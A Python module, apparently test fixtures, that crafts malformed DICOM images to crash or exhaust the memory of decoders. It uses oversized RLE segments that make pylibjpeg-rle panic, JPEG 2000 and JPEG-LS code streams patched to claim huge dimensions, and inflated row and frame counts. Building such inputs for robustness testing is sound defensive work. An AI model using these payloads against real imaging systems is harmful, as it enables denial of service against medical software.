"""Images that crash, panic, or fill the memory of whoever decodes them."""

import struct
from collections.abc import Callable
from typing import Final

import numpy as np
from openjpeg.utils import encode_array
from pydicom import Dataset
from pydicom.encaps import encapsulate
from pydicom.uid import UID, JPEG2000Lossless, JPEGLSLossless, RLELossless


def put(ds: Dataset, frame: bytes, syntax: UID) -> None:
    """Make `frame` the only frame of an image."""
    ds.PixelData = encapsulate([frame])
    ds["PixelData"].VR = "OB"
    ds["PixelData"].is_undefined_length = True
    ds.file_meta.TransferSyntaxUID = syntax


def _rle(runs: int) -> bytes:
    """Return two segments of `runs` times 128 octets."""
    segment = bytes([129, 0]) * runs
    head = struct.pack("<16I", 2, 64, 64 + len(segment), *[0] * 13)
    return head + segment + segment


def rle_panic(ds: Dataset) -> None:
    """Let segments decode to more than Rows x Columns: pylibjpeg-rle 2.2.0 panics."""
    put(ds, _rle(64), RLELossless)


def rle_flood(ds: Dataset) -> None:
    """Let 4 MB of runs ask for 256 MB."""
    put(ds, _rle(1_000_000), RLELossless)


def j2k_flood(ds: Dataset) -> None:
    """Say 60000 x 60000 in the code stream of a small image: 14 GB in OpenJPEG."""
    stream = bytearray(encode_array(np.zeros((64, 64), np.uint16), photometric_interpretation=0))
    at = stream.find(b"\xff\x51") + 6  # size (ISO/IEC 15444-1 A.5.1)
    struct.pack_into(">IIIIIIII", stream, at, 60000, 60000, 0, 0, 60000, 60000, 0, 0)
    put(ds, bytes(stream), JPEG2000Lossless)


def jls_flood(ds: Dataset) -> None:
    """Say 65535 x 65535 in the code stream of a small image."""
    ds.compress(JPEGLSLossless, generate_instance_uid=False)
    frame = bytearray(ds.PixelData[16:])  # behind offset table and item header
    at = frame.find(b"\xff\xf7") + 5  # SOF55 (ISO/IEC 14495-1 C.2.2)
    struct.pack_into(">HH", frame, at, 65535, 65535)
    put(ds, bytes(frame), JPEGLSLossless)


def largest(ds: Dataset) -> None:
    """Say 65535 x 65535 in the header."""
    rle_panic(ds)
    ds.Rows = ds.Columns = 65535


def many_frames(ds: Dataset) -> None:
    """Say 100,000 frames in the header."""
    rle_panic(ds)
    ds.Rows = ds.Columns = 512
    ds.NumberOfFrames = 100_000


HOSTILE: Final[dict[str, Callable[[Dataset], None]]] = {
    "RLE panic": rle_panic,
    "RLE flood": rle_flood,
    "JPEG 2000 flood": j2k_flood,
    "JPEG-LS flood": jls_flood,
    "65535 x 65535": largest,
    "100,000 frames": many_frames,
}
